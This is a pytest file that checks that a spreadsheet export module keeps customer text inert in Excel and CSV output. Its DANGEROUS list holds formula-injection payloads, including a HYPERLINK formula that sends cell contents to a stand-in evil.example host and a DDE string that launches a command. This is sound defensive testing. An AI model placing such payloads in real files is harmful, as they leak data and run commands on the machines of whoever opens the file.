"""Every cell we write is inert: no text typed by a customer becomes a live formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from manyi.analytics import spreadsheet

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "-",
    "+cmd|' /C calc'!A0",
]
HARMLESS = ["张伟", "-12.5", "+8613800000000", "1e5", "a=b", "申江贸易有限公司", ""]


def formula_elements(data: bytes) -> int:
    """How many <f> (formula) elements the Excel file's sheets hold."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def as_xml_keeps(text: str) -> str:
    """XML reads a carriage return back as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def write_both_ways(values: list[str]) -> list[bytes]:
    normal = spreadsheet.workbook()
    sheet = normal.active
    sheet.append(values)
    for column, value in enumerate(values, start=1):
        sheet.cell(2, column, value)  # the other way report.py writes
    streaming = spreadsheet.workbook(write_only=True)
    streaming.create_sheet("导出").append(values)
    return [normal.to_bytes(), streaming.to_bytes()]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_is_never_a_formula(text):
    assert spreadsheet.is_formula_like(text)
    for data in write_both_ways([text, "普通"]):
        assert formula_elements(data) == 0
        book = load_workbook(io.BytesIO(data))
        cell = book.worksheets[0].cell(1, 1)
        assert cell.data_type == "s" and cell.value == as_xml_keeps(text) and cell.quotePrefix
    buffer = io.StringIO()
    spreadsheet.csv_writer(buffer).writerow([text, "普通"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + text, "普通"]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_numbers_are_left_as_they_are(text):
    assert not spreadsheet.is_formula_like(text)
    assert spreadsheet.inert_text(text) == text
    assert spreadsheet.inert_text(-3) == -3


@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
def test_any_text_reads_back_unchanged_and_inert(values):
    for data in write_both_ways(values):
        assert formula_elements(data) == 0
        row = next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
        expected = [as_xml_keeps(spreadsheet.clean_text(v)) or None for v in values]
        assert list(row) == expected
    buffer = io.StringIO()
    spreadsheet.csv_writer(buffer).writerow(values)
    for written in next(csv.reader(io.StringIO(buffer.getvalue()), strict=False), []):
        assert not spreadsheet.is_formula_like(written) or written.startswith("'")


def test_frames_to_csv_are_inert_headers_included():
    frame = pd.DataFrame({"=bad": ["=1+1", "ok"], "n": [-1.5, 2]})
    text = spreadsheet.frame_to_csv(frame, index=False)
    assert list(csv.reader(io.StringIO(text))) == [["'=bad", "n"], ["'=1+1", "-1.5"], ["ok", "2.0"]]


def test_control_characters_do_not_fail_the_export():
    data = write_both_ways(["名\x01字\x1b"])
    assert load_workbook(io.BytesIO(data[1])).worksheets[0].cell(1, 1).value == "名字"
    assert spreadsheet.sheet_title("a/b:c*d?[e]" + "x" * 40) == "a_b_c_d__e_" + "x" * 20
